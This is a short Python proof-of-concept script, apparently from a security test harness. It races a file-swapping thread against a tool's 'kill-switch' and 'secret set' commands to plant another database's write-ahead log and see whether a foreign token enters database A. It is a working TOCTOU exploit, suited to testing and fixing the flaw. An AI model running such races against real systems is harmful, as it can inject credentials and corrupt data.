#!/usr/bin/env python3
# TOCTOU between ADR-1310's look and SQLite's own open: a fork's log appears at A.db-wal only in short bursts.
# Runs `kill-switch on`/`off` on A up to N times (bounded), then checks whether B's token ever reached A.
import os, shutil, subprocess, sys, threading, time, sqlite3
F='/work/attack41/foureyes'; W=sys.argv[1]; N=int(sys.argv[2]); os.chdir(W)
stop=False; planted=[0]
def swapper():
    i=0
    while not stop:
        i+=1
        shutil.copyfile('B.wal', 'tmp.wal')
        try: os.rename('tmp.wal', 'A.db-wal'); planted[0]+=1
        except OSError: pass
        time.sleep(0.0005*(i%7))
        try: os.rename('A.db-wal', 'gone.wal')
        except OSError: pass
        time.sleep(0.0003*(i%5))
t=threading.Thread(target=swapper); t.start()
res={}
try:
    for k in range(N):
        door=os.environ.get('DOOR')
        if door=='secret-set': r=subprocess.run([F,'--db','A.db','secret','set','s%d'%k,'--secrets-key-file','/tmp/attack41/sec/sk'],input='v',capture_output=True,text=True)
        else: r=subprocess.run([F,'--db','A.db','kill-switch','on' if k%2==0 else 'off'],capture_output=True,text=True)
        res[r.returncode]=res.get(r.returncode,0)+1
        c=sqlite3.connect('file:A.db?immutable=1',uri=True)
        try: hit=c.execute("select count(*) from tokens where name='onlyB'").fetchone()[0]
        except Exception as e: hit=-1
        c.close()
        if hit: print('HIT at attempt',k,'rc',r.returncode); print(r.stderr); break
finally:
    stop=True; t.join()
print('attempts by rc:',res,'plants:',planted[0])
